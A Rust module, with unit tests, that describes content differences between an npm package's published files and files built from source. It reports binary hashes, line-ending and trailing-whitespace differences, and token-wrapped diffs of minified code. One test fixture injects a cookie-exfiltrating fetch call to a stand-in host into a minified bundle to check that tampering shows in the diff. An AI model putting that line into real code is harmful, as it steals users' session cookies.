//! What a content difference of one file is, in terms a person can act on: a binary file by both
//! sides' sizes and SHA-256 (no diff); a text file that differs only in its line endings, or only
//! in the whitespace after its last line, called out as such; any other text difference as a
//! unified diff bounded in lines and in bytes per line. Very long lines (minified code, JSON on
//! one line) are first wrapped at token boundaries, so the diff shows the changed region with a
//! little context instead of two 100 kB lines.
//!
//! Only files whose bytes differ come here: none of this runs for identical files. Strictness:
//! every outcome is a `mismatch`; npm never rewrites a file's bytes, so a file that differs only
//! in line endings is still not what the commit produces. This module only says what differs.

use std::time::{Duration, Instant};

use provdiff_core::{Code, Finding};
use sha2::Digest;

/// A line longer than this many bytes, on either side, makes a file "minified": its long lines
/// are token-wrapped before the diff.
const LONG_LINE: usize = 500;
/// In a minified file, lines longer than this are wrapped; shorter ones are diffed as they are.
const WRAP_WIDTH: usize = 160;
/// A wrapped segment also ends at `,` or whitespace once it is this long.
const SOFT_BREAK_AFTER: usize = 40;
/// With no token boundary in sight (a base64 string, say), a segment this long ends where the
/// content says so (a hash of the last bytes), so that an insertion does not shift every later
/// break; [`HARD_BREAK_AFTER`] bounds it.
const CONTENT_BREAK_AFTER: usize = 64;
const HARD_BREAK_AFTER: usize = 256;
/// Bytes of one diff line shown; the rest is counted.
const MAX_DIFF_LINE_BYTES: usize = 240;
/// How long the diff algorithm may search before it settles for a coarser, still correct diff.
/// similar's Myers bounds its own work on hard inputs; this only guards pathological ones.
const DIFF_TIMEOUT: Duration = Duration::from_millis(500);
/// Unchanged lines (or segments) shown around each change.
const CONTEXT: usize = 3;

/// The finding for a file present on both sides whose bytes differ.
pub(crate) fn content_finding(path: &str, published: &[u8], source: &[u8], max_lines: usize) -> Finding {
    let (Some(published_text), Some(source_text)) = (as_text(published), as_text(source)) else {
        return Finding::at(
            Code::ContentDiffers,
            path,
            format!(
                "binary content differs: {} bytes in the package (sha256:{}), {} bytes from the source (sha256:{})",
                published.len(),
                hex::encode(sha2::Sha256::digest(published)),
                source.len(),
                hex::encode(sha2::Sha256::digest(source)),
            ),
        );
    };
    if let Some((code, detail)) = whitespace_difference(published, source) {
        return Finding::at(code, path, detail);
    }
    let diff = text_diff(path, source_text, published_text, max_lines, true);
    let mut detail = format!(
        "{} ({} bytes in the package, {} from the source)",
        diff.changed_summary(),
        published.len(),
        source.len()
    );
    if let Some(endings) = &diff.endings_ignored {
        detail.push_str(&format!("; line endings also differ ({endings}), which the diff ignores"));
    }
    if let Some(longest) = diff.wrapped_longest_line {
        detail.push_str(&format!(
            "; minified (a line of {longest} bytes): the diff is token-wrapped at `;`, `{{`, `}}`, `,` and whitespace"
        ));
    }
    if diff.approximate {
        detail.push_str("; the diff search hit its time limit, so the counts may be larger than the least possible");
    }
    Finding::at(Code::ContentDiffers, path, detail).with_diff(diff.text)
}

/// `line-endings-differ` or `trailing-newline-differs` with its detail, when that is all that
/// tells the two texts apart.
pub(crate) fn whitespace_difference(published: &[u8], source: &[u8]) -> Option<(Code, String)> {
    if let Some(endings) = line_endings_only(published, source) {
        return Some((Code::LineEndingsDiffer, endings.describe()));
    }
    trailing_whitespace_only(published, source).map(|detail| (Code::TrailingNewlineDiffers, detail))
}

/// A unified diff of two texts with the same bounds and wrapping as file diffs, line endings
/// kept: for other modules (the `package.json` comparison) that show text differences.
pub(crate) fn unified_diff(path: &str, source: &str, published: &str, max_lines: usize) -> String {
    text_diff(path, source, published, max_lines, false).text
}

/// Text is valid UTF-8 with no NUL byte; anything else is binary.
fn as_text(bytes: &[u8]) -> Option<&str> {
    if bytes.contains(&0) {
        return None;
    }
    std::str::from_utf8(bytes).ok()
}

// ---------------------------------------------------------------------------------------------
// Line endings.

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Eol {
    Lf,
    CrLf,
    Cr,
}

/// The lines of a text with their terminators (`\n`, `\r\n` or a lone `\r`); the last line has
/// none when the text does not end with one, and an empty text has no lines.
fn lines_with_endings(bytes: &[u8]) -> impl Iterator<Item = (&[u8], Option<Eol>)> {
    let mut rest = bytes;
    std::iter::from_fn(move || {
        if rest.is_empty() {
            return None;
        }
        let Some(end) = rest.iter().position(|b| *b == b'\n' || *b == b'\r') else {
            let line = rest;
            rest = &[];
            return Some((line, None));
        };
        let line = &rest[..end];
        let (eol, len) = match (rest[end], rest.get(end + 1)) {
            (b'\r', Some(b'\n')) => (Eol::CrLf, 2),
            (b'\r', _) => (Eol::Cr, 1),
            _ => (Eol::Lf, 1),
        };
        rest = &rest[end + len..];
        Some((line, Some(eol)))
    })
}

/// How many lines end each way.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
struct EolCounts {
    lf: usize,
    crlf: usize,
    cr: usize,
}

impl EolCounts {
    fn of(text: &[u8]) -> Self {
        let mut counts = Self::default();
        for (_, eol) in lines_with_endings(text) {
            counts.add(eol);
        }
        counts
    }

    fn add(&mut self, eol: Option<Eol>) {
        match eol {
            Some(Eol::Lf) => self.lf += 1,
            Some(Eol::CrLf) => self.crlf += 1,
            Some(Eol::Cr) => self.cr += 1,
            None => {}
        }
    }

    /// Which kinds occur, as a set: two texts with the same kinds need no normalising to diff.
    fn kinds(&self) -> [bool; 3] {
        [self.lf > 0, self.crlf > 0, self.cr > 0]
    }

    /// `CRLF`, `LF`, `CR`, `mixed (3 CRLF, 409 LF)`, or `no line endings`.
    fn describe(&self) -> String {
        let parts: Vec<String> = [(self.crlf, "CRLF"), (self.lf, "LF"), (self.cr, "CR")]
            .iter()
            .filter(|(count, _)| *count > 0)
            .map(|(count, name)| format!("{count} {name}"))
            .collect();
        match parts.as_slice() {
            [] => "no line endings".to_string(),
            [only] => only.split_once(' ').map_or(only.clone(), |(_, name)| name.to_string()),
            _ => format!("mixed ({})", parts.join(", ")),
        }
    }
}

/// Two texts whose lines are equal and end on the same lines, but not with the same bytes.
#[derive(Debug)]
struct LineEndings {
    /// Lines that end (with anything) on both sides.
    terminated: usize,
    /// Lines whose ending differs, and the first few of them (1-based).
    differing: usize,
    first_differing: Vec<usize>,
    package: EolCounts,
    source: EolCounts,
}

const LINES_NAMED: usize = 5;

impl LineEndings {
    fn describe(&self) -> String {
        let (package, source) = (self.package.describe(), self.source.describe());
        if self.differing == self.terminated {
            return format!(
                "{package} line endings in the package, {source} in the source ({} line{}); otherwise identical",
                self.terminated,
                plural(self.terminated)
            );
        }
        let mut lines: Vec<String> = self.first_differing.iter().map(usize::to_string).collect();
        if self.differing > lines.len() {
            lines.push(format!("{} more", self.differing - lines.len()));
        }
        format!(
            "line endings differ on {} of {} lines (line {}): {package} in the package, {source} in the source; \
             otherwise identical",
            self.differing,
            self.terminated,
            lines.join(", ")
        )
    }
}

/// `Some` when the two texts are equal once line endings are normalised: the same lines, ending
/// on the same lines (a final newline on one side only is not a line-ending difference).
fn line_endings_only(published: &[u8], source: &[u8]) -> Option<LineEndings> {
    let mut outcome = LineEndings {
        terminated: 0,
        differing: 0,
        first_differing: Vec::new(),
        package: EolCounts::default(),
        source: EolCounts::default(),
    };
    let mut package_lines = lines_with_endings(published);
    let mut source_lines = lines_with_endings(source);
    let mut number = 0;
    loop {
        let (package_line, source_line) = match (package_lines.next(), source_lines.next()) {
            (None, None) => break,
            (Some(package_line), Some(source_line)) => (package_line, source_line),
            _ => return None,
        };
        number += 1;
        let ((package_text, package_eol), (source_text, source_eol)) = (package_line, source_line);
        if package_text != source_text || package_eol.is_some() != source_eol.is_some() {
            return None;
        }
        outcome.package.add(package_eol);
        outcome.source.add(source_eol);
        if package_eol.is_some() {
            outcome.terminated += 1;
        }
        if package_eol != source_eol {
            outcome.differing += 1;
            if outcome.first_differing.len() < LINES_NAMED {
                outcome.first_differing.push(number);
            }
        }
    }
    (outcome.differing > 0).then_some(outcome)
}

// ---------------------------------------------------------------------------------------------
// Whitespace at the end.

fn trim_end_whitespace(bytes: &[u8]) -> &[u8] {
    let end = bytes.iter().rposition(|b| !matches!(b, b' ' | b'\t' | b'\r' | b'\n')).map_or(0, |i| i + 1);
    &bytes[..end]
}

/// `Some(detail)` when the texts are equal up to the whitespace after their last non-blank
/// character: a final newline added or removed, blank lines or spaces at the end.
fn trailing_whitespace_only(published: &[u8], source: &[u8]) -> Option<String> {
    let (package_body, source_body) = (trim_end_whitespace(published), trim_end_whitespace(source));
    if package_body != source_body || published == source {
        return None;
    }
    let package_tail = &published[package_body.len()..];
    let source_tail = &source[source_body.len()..];
    let single_newline = |tail: &[u8]| tail == b"\n" || tail == b"\r\n";
    Some(if package_tail.is_empty() && single_newline(source_tail) {
        "no final newline in the package; the source ends with one; otherwise identical".to_string()
    } else if source_tail.is_empty() && single_newline(package_tail) {
        "a final newline in the package that the source lacks; otherwise identical".to_string()
    } else {
        format!(
            "only the whitespace at the end differs: the package ends with {}, the source with {}; otherwise identical",
            show_whitespace(package_tail),
            show_whitespace(source_tail)
        )
    })
}

/// A run of whitespace as a quoted, escaped string (`"\n\n"`), shortened when long.
fn show_whitespace(tail: &[u8]) -> String {
    if tail.is_empty() {
        return "no whitespace".to_string();
    }
    const SHOWN: usize = 16;
    let escaped: String = tail
        .iter()
        .take(SHOWN)
        .map(|b| match b {
            b'\n' => "\\n",
            b'\r' => "\\r",
            b'\t' => "\\t",
            _ => " ",
        })
        .collect();
    if tail.len() > SHOWN { format!("\"{escaped}…\" ({} bytes)", tail.len()) } else { format!("\"{escaped}\"") }
}

// ---------------------------------------------------------------------------------------------
// Bounded, token-wrapped diffs.

/// One unit of the diff: a line, or a segment of a wrapped line.
#[derive(Debug, Clone, Copy)]
struct Token<'a> {
    text: &'a str,
    /// 1-based line, and 1-based byte column where the token starts.
    line: usize,
    column: usize,
}

struct Tokens<'a> {
    tokens: Vec<Token<'a>>,
    /// The text does not end with a line ending (its last token has none).
    missing_final_newline: bool,
}

/// Splits a text into lines, each keeping its ending; in `wrap` mode lines longer than
/// [`WRAP_WIDTH`] are further cut into segments by [`wrap_line`].
fn tokenize(text: &str, wrap: bool) -> Tokens<'_> {
    let mut tokens = Vec::new();
    for (index, line) in text.split_inclusive('\n').enumerate() {
        if wrap && line.len() > WRAP_WIDTH {
            wrap_line(line, |start, segment| tokens.push(Token { text: segment, line: index + 1, column: start + 1 }));
        } else {
            tokens.push(Token { text: line, line: index + 1, column: 1 });
        }
    }
    Tokens { missing_final_newline: !text.is_empty() && !text.ends_with('\n'), tokens }
}

/// Cuts a long line into segments that end after `;`, `{` or `}`; after `,` or whitespace once
/// [`SOFT_BREAK_AFTER`] bytes long; where a hash of the last bytes says so once
/// [`CONTENT_BREAK_AFTER`] bytes long; and at [`HARD_BREAK_AFTER`] bytes. Every rule looks only at
/// the text since the previous break, so a change moves the breaks only up to the next `;`, `{`
/// or `}`, and the diff stays local. Segments are cut at character boundaries only.
fn wrap_line<'a>(line: &'a str, mut emit: impl FnMut(usize, &'a str)) {
    let bytes = line.as_bytes();
    let mut start = 0;
    for (index, &byte) in bytes.iter().enumerate() {
        let end = index + 1;
        if end < bytes.len() && !line.is_char_boundary(end) {
            continue;
        }
        let len = end - start;
        let cut = matches!(byte, b';' | b'{' | b'}')
            || (len >= SOFT_BREAK_AFTER && matches!(byte, b',' | b' ' | b'\t'))
            || (len >= CONTENT_BREAK_AFTER && content_break(&bytes[..end]))
            || len >= HARD_BREAK_AFTER;
        if cut && end < bytes.len() {
            emit(start, &line[start..end]);
            start = end;
        }
    }
    if start < bytes.len() {
        emit(start, &line[start..]);
    }
}

/// A break point chosen by content alone: a hash of the last four bytes, one position in 32.
fn content_break(before: &[u8]) -> bool {
    let window = &before[before.len().saturating_sub(4)..];
    let hash = window.iter().fold(0x811c_9dc5u32, |hash, b| (hash ^ u32::from(*b)).wrapping_mul(0x0100_0193));
    hash % 32 == 0
}

fn longest_line(text: &str) -> usize {
    text.split('\n').map(str::len).max().unwrap_or(0)
}

/// LF-only copy of a text.
fn normalise_line_endings(text: &str) -> String {
    text.replace("\r\n", "\n").replace('\r', "\n")
}

struct TextDiff {
    text: String,
    deleted: usize,
    inserted: usize,
    /// Set when the diff is of segments: the longest line of either side.
    wrapped_longest_line: Option<usize>,
    /// Set when the two sides end their lines differently and the diff was made on normalised
    /// text: says how each side ends them.
    endings_ignored: Option<String>,
    approximate: bool,
}

impl TextDiff {
    fn changed_summary(&self) -> String {
        let unit = if self.wrapped_longest_line.is_some() { "segment" } else { "line" };
        match (self.deleted, self.inserted) {
            (0, 0) => "the texts differ only in what the diff cannot show".to_string(),
            (0, added) => format!("the package adds {added} {unit}{}", plural(added)),
            (removed, 0) => format!("the package lacks {removed} {unit}{} of the source", plural(removed)),
            (removed, added) => format!(
                "{removed} {unit}{} of the source differ{} from {added} of the package",
                plural(removed),
                if removed == 1 { "s" } else { "" }
            ),
        }
    }
}

/// `normalise`: when the sides end their lines differently, diff them with LF endings and say so.
fn text_diff(path: &str, source: &str, published: &str, max_lines: usize, normalise: bool) -> TextDiff {
    let (source_endings, package_endings) = (EolCounts::of(source.as_bytes()), EolCounts::of(published.as_bytes()));
    let normalised;
    let (source, published, endings_ignored) = if normalise && source_endings.kinds() != package_endings.kinds() {
        normalised = (normalise_line_endings(source), normalise_line_endings(published));
        let note =
            format!("{} in the package, {} in the source", package_endings.describe(), source_endings.describe());
        (normalised.0.as_str(), normalised.1.as_str(), Some(note))
    } else {
        (source, published, None)
    };
    let longest = longest_line(source).max(longest_line(published));
    let wrap = longest > LONG_LINE;
    let (old, new) = (tokenize(source, wrap), tokenize(published, wrap));
    let old_texts: Vec<&str> = old.tokens.iter().map(|token| token.text).collect();
    let new_texts: Vec<&str> = new.tokens.iter().map(|token| token.text).collect();
    let started = Instant::now();
    let diff = similar::TextDiff::configure()
        .algorithm(similar::Algorithm::Myers)
        .timeout(DIFF_TIMEOUT)
        .diff_slices(&old_texts, &new_texts);
    let approximate = started.elapsed() >= DIFF_TIMEOUT;
    let (mut deleted, mut inserted) = (0, 0);
    for op in diff.ops() {
        let (tag, old_range, new_range) = op.as_tag_tuple();
        if tag != similar::DiffTag::Equal {
            deleted += old_range.len();
            inserted += new_range.len();
        }
    }
    let mut out = Bounded::new(max_lines);
    out.line(|| format!("--- source/{path}"));
    out.line(|| format!("+++ package/{path}"));
    for group in diff.grouped_ops(CONTEXT) {
        let (Some(first), Some(last)) = (group.first(), group.last()) else { continue };
        let old_range = first.old_range().start..last.old_range().end;
        let new_range = first.new_range().start..last.new_range().end;
        out.line(|| hunk_header(&old, old_range.clone(), &new, new_range.clone(), wrap));
        for op in &group {
            let (tag, old_ops, new_ops) = op.as_tag_tuple();
            if tag == similar::DiffTag::Equal {
                for index in old_ops {
                    out.token(' ', &old, index);
                }
                continue;
            }
            for index in old_ops {
                out.token('-', &old, index);
            }
            for index in new_ops {
                out.token('+', &new, index);
            }
        }
    }
    TextDiff {
        text: out.finish(),
        deleted,
        inserted,
        wrapped_longest_line: wrap.then_some(longest),
        endings_ignored,
        approximate,
    }
}

/// `@@ -3,7 +3,8 @@` for lines; `@@ -1:40213 +1:40213 @@` (line:column of the first segment on
/// each side) for token-wrapped text, whose segment numbers would mean nothing to a reader.
fn hunk_header(
    old: &Tokens<'_>,
    old_range: std::ops::Range<usize>,
    new: &Tokens<'_>,
    new_range: std::ops::Range<usize>,
    wrap: bool,
) -> String {
    if wrap {
        let position = |tokens: &Tokens<'_>, range: &std::ops::Range<usize>| match tokens
            .tokens
            .get(range.start)
            .or_else(|| tokens.tokens.last())
        {
            Some(token) => format!("{}:{}", token.line, token.column),
            None => "0:0".to_string(),
        };
        return format!(
            "@@ -{} +{} @@ line:column, token-wrapped",
            position(old, &old_range),
            position(new, &new_range)
        );
    }
    let span = |range: &std::ops::Range<usize>| {
        let start = if range.is_empty() { range.start } else { range.start + 1 };
        format!("{start},{}", range.len())
    };
    format!("@@ -{} +{} @@", span(&old_range), span(&new_range))
}

/// Diff output that keeps at most `max_lines` lines and counts the rest without formatting them.
struct Bounded {
    text: String,
    kept: usize,
    dropped: usize,
    max_lines: usize,
}

impl Bounded {
    fn new(max_lines: usize) -> Self {
        Self { text: String::new(), kept: 0, dropped: 0, max_lines }
    }

    fn line(&mut self, make: impl FnOnce() -> String) {
        if self.kept >= self.max_lines {
            self.dropped += 1;
            return;
        }
        self.kept += 1;
        self.text.push_str(&make());
        self.text.push('\n');
    }

    fn token(&mut self, prefix: char, tokens: &Tokens<'_>, index: usize) {
        let Some(token) = tokens.tokens.get(index) else { return };
        self.line(|| {
            let text = token.text.strip_suffix('\n').unwrap_or(token.text);
            let text = text.strip_suffix('\r').unwrap_or(text);
            format!("{prefix}{}", cap_line(text))
        });
        if tokens.missing_final_newline && index + 1 == tokens.tokens.len() {
            self.line(|| "\\ No newline at end of file".to_string());
        }
    }

    fn finish(mut self) -> String {
        if self.dropped > 0 {
            self.text.push_str(&format!("... {} more diff lines not shown\n", self.dropped));
        }
        self.text
    }
}

/// A diff line cut at [`MAX_DIFF_LINE_BYTES`] (at a character boundary), saying how much was cut.
fn cap_line(text: &str) -> std::borrow::Cow<'_, str> {
    if text.len() <= MAX_DIFF_LINE_BYTES {
        return text.into();
    }
    let mut end = MAX_DIFF_LINE_BYTES;
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    format!("{}… ({} more bytes)", &text[..end], text.len() - end).into()
}

fn plural(count: usize) -> &'static str {
    if count == 1 { "" } else { "s" }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn differ(published: &str, source: &str) -> Finding {
        content_finding("f.js", published.as_bytes(), source.as_bytes(), 200)
    }

    fn check(published: &str, source: &str, code: Code, detail: &str) {
        let finding = differ(published, source);
        assert_eq!((finding.code, finding.detail.as_str()), (code, detail), "{published:?} vs {source:?}");
    }

    #[test]
    fn line_endings_only() {
        let lf = "a\nb\nc\n";
        check(
            "a\r\nb\r\nc\r\n",
            lf,
            Code::LineEndingsDiffer,
            "CRLF line endings in the package, LF in the source (3 lines); otherwise identical",
        );
        check(
            lf,
            "a\r\nb\r\nc\r\n",
            Code::LineEndingsDiffer,
            "LF line endings in the package, CRLF in the source (3 lines); otherwise identical",
        );
        // No final newline on either side: the last line has no ending to compare.
        check(
            "a\r\nb",
            "a\nb",
            Code::LineEndingsDiffer,
            "CRLF line endings in the package, LF in the source (1 line); otherwise identical",
        );
        check(
            "a\rb\r",
            "a\nb\n",
            Code::LineEndingsDiffer,
            "CR line endings in the package, LF in the source (2 lines); otherwise identical",
        );
        check(
            "a\r\nb\nc\n",
            lf,
            Code::LineEndingsDiffer,
            "line endings differ on 1 of 3 lines (line 1): mixed (1 CRLF, 2 LF) in the package, LF in the source; \
             otherwise identical",
        );
        let many: String = (0..20).map(|i| if i % 2 == 0 { format!("{i}\r\n") } else { format!("{i}\n") }).collect();
        let many_lf: String = (0..20).map(|i| format!("{i}\n")).collect();
        assert!(
            differ(&many, &many_lf)
                .detail
                .starts_with("line endings differ on 10 of 20 lines (line 1, 3, 5, 7, 9, 5 more)"),
            "{}",
            differ(&many, &many_lf).detail
        );
        // A diff would show every line changed: the detail says it all.
        assert!(differ("a\r\nb\r\n", "a\nb\n").diff.is_none());
    }

    #[test]
    fn line_endings_plus_a_real_change_is_a_content_difference() {
        let finding = differ("a\r\nB\r\nc\r\n", "a\nb\nc\n");
        assert_eq!(finding.code, Code::ContentDiffers);
        assert!(
            finding.detail.contains("line endings also differ (CRLF in the package, LF in the source)"),
            "{}",
            finding.detail
        );
        // The diff is of the normalised text: only the real change shows.
        let diff = finding.diff.unwrap();
        assert!(diff.contains("-b\n+B\n"), "{diff}");
        assert!(!diff.contains("-a") && !diff.contains('\r'), "{diff}");
        // A final newline removed on top of CRLF: not line endings only either.
        assert_eq!(finding_code("a\r\nb", "a\nb\n"), Code::ContentDiffers);
    }

    fn finding_code(published: &str, source: &str) -> Code {
        differ(published, source).code
    }

    #[test]
    fn trailing_whitespace_only() {
        check(
            "a\nb",
            "a\nb\n",
            Code::TrailingNewlineDiffers,
            "no final newline in the package; the source ends with one; otherwise identical",
        );
        check(
            "a\nb\n",
            "a\nb",
            Code::TrailingNewlineDiffers,
            "a final newline in the package that the source lacks; otherwise identical",
        );
        check(
            "a\nb\n\n\n",
            "a\nb\n",
            Code::TrailingNewlineDiffers,
            "only the whitespace at the end differs: the package ends with \"\\n\\n\\n\", the source with \"\\n\"; \
             otherwise identical",
        );
        check(
            "a \t\n",
            "a",
            Code::TrailingNewlineDiffers,
            "only the whitespace at the end differs: the package ends with \" \\t\\n\", the source with no whitespace; \
             otherwise identical",
        );
        assert!(differ("a\n", "a").diff.is_none());
        // Whitespace inside the text is a real difference.
        assert_eq!(finding_code("a \nb\n", "a\nb\n"), Code::ContentDiffers);
        assert_eq!(finding_code("a\n\nb\n", "a\nb\n"), Code::ContentDiffers);
    }

    #[test]
    fn binary_files_have_sizes_and_hashes_and_no_diff() {
        let finding = content_finding("a.bin", b"\0\x01", b"\0\x02\x03", 200);
        assert_eq!(finding.code, Code::ContentDiffers);
        assert_eq!(
            finding.detail,
            format!(
                "binary content differs: 2 bytes in the package (sha256:{}), 3 bytes from the source (sha256:{})",
                hex::encode(sha2::Sha256::digest(b"\0\x01")),
                hex::encode(sha2::Sha256::digest(b"\0\x02\x03"))
            )
        );
        assert!(finding.diff.is_none());
        // Invalid UTF-8 on one side is binary too.
        let finding = content_finding("a.txt", b"caf\xe9\n", "café\n".as_bytes(), 200);
        assert!(finding.detail.starts_with("binary content differs"), "{}", finding.detail);
        assert!(finding.diff.is_none());
    }

    #[test]
    fn text_diffs_count_lines_and_are_cut() {
        let finding = differ("one\ntwo\nthree\n", "one\nTWO\nthree\n");
        assert_eq!(
            finding.detail,
            "1 line of the source differs from 1 of the package (14 bytes in the package, 14 from the source)"
        );
        assert_eq!(
            finding.diff.as_deref(),
            Some("--- source/f.js\n+++ package/f.js\n@@ -1,3 +1,3 @@\n one\n-TWO\n+two\n three\n")
        );
        assert_eq!(
            finding_summary("a\nb\nc\n", "a\nc\n"),
            "the package adds 1 line (6 bytes in the package, 4 from the source)"
        );
        assert_eq!(
            finding_summary("a\n", "a\nb\nc\n"),
            "the package lacks 2 lines of the source (2 bytes in the package, 6 from the source)"
        );
        let no_newline = differ("a\nB", "a\nb").diff.unwrap();
        assert!(
            no_newline.ends_with("-b\n\\ No newline at end of file\n+B\n\\ No newline at end of file\n"),
            "{no_newline}"
        );

        let long_a: String = (0..1000).map(|i| format!("{i}\n")).collect();
        let long_b: String = (0..1000).map(|i| format!("{}\n", i * 2)).collect();
        let cut = content_finding("a", long_a.as_bytes(), long_b.as_bytes(), 10);
        let diff = cut.diff.unwrap();
        assert_eq!(diff.lines().count(), 11);
        assert!(diff.ends_with("more diff lines not shown\n"), "{diff}");
        // A long line that is not long enough to wrap is still cut in the diff.
        let wide = format!("{}\n", "x".repeat(400));
        let diff = differ(&wide, "y\n").diff.unwrap();
        assert!(diff.contains(&format!("+{}… (160 more bytes)\n", "x".repeat(240))), "{diff}");
    }

    fn finding_summary(published: &str, source: &str) -> String {
        differ(published, source).detail
    }

    /// A minified bundle of 20,000 functions (1.1 MB) on one line, `marker` before the 5000th.
    fn minified(marker: &str) -> String {
        let mut text = String::new();
        for i in 0..20_000 {
            if i == 5000 {
                text.push_str(marker);
            }
            text.push_str(&format!("function f{i}(a,b){{var c=a+b*{i};return c.toString(16)}}"));
        }
        text
    }

    #[test]
    fn a_minified_file_diff_is_token_wrapped_and_bounded() {
        let source = minified("");
        let published = minified("fetch('https://evil.example/'+document.cookie);");
        assert!(!source.contains('\n') && source.len() > 1 << 20);
        let finding = content_finding("dist/app.min.js", published.as_bytes(), source.as_bytes(), 200);
        assert_eq!(finding.code, Code::ContentDiffers);
        assert!(finding.detail.contains("token-wrapped"), "{}", finding.detail);
        assert!(finding.detail.starts_with("the package adds 1 segment"), "{}", finding.detail);
        let diff = finding.diff.unwrap();
        // The change, with a little context on either side, and nothing else.
        assert!(diff.contains("\n+fetch('https://evil.example/'+document.cookie);\n"), "{diff}");
        assert!(diff.contains(" function f5000(a,b){\n"), "{diff}");
        assert!(diff.len() < 1000, "{} bytes: {diff}", diff.len());
        assert!(diff.lines().all(|line| line.len() <= MAX_DIFF_LINE_BYTES + 40), "{diff}");
        // The hunk says where in the original line the change is.
        let column = published.find("function f4999(").unwrap() + 1;
        assert!(diff.contains(&format!("+1:{column} @@")), "{diff}");

        // Two entirely different 1 MB lines: still bounded by max_lines and the per-line cap.
        let other: String = source.chars().rev().collect();
        let finding = content_finding("dist/app.min.js", other.as_bytes(), source.as_bytes(), 200);
        let diff = finding.diff.unwrap();
        assert_eq!(diff.lines().count(), 201, "{}", &diff[..500]);
        assert!(diff.len() < 201 * (HARD_BREAK_AFTER + 4));
    }

    #[test]
    fn wrapping_is_local_and_keeps_every_byte() {
        let line = format!("{}{}", "a=1;b={c:[1,2,3]};".repeat(20), "Zm9vYmFy".repeat(100));
        let mut segments = Vec::new();
        wrap_line(&line, |start, segment| segments.push((start, segment.to_string())));
        assert_eq!(segments.iter().map(|(_, s)| s.as_str()).collect::<String>(), line);
        assert!(segments.iter().all(|(start, segment)| line[*start..].starts_with(segment.as_str())));
        assert!(segments.iter().all(|(_, segment)| segment.len() <= HARD_BREAK_AFTER));
        assert!(segments.iter().any(|(_, segment)| segment == "b={"));
        // An insertion in the base64 run moves only the breaks near it: most segments survive.
        let changed = line.replacen("Zm9vYmFy", "Zm9vYmFyX", 1);
        let mut after = Vec::new();
        wrap_line(&changed, |_, segment| after.push(segment.to_string()));
        let before: std::collections::HashSet<&str> = segments.iter().map(|(_, s)| s.as_str()).collect();
        let kept = after.iter().filter(|segment| before.contains(segment.as_str())).count();
        assert!(kept + 3 >= after.len(), "{kept} of {} segments kept", after.len());
        // Multi-byte characters are never split.
        let wide = "é".repeat(400);
        let mut pieces = Vec::new();
        wrap_line(&wide, |_, segment| pieces.push(segment.len()));
        assert_eq!(pieces.iter().sum::<usize>(), wide.len());
    }
}
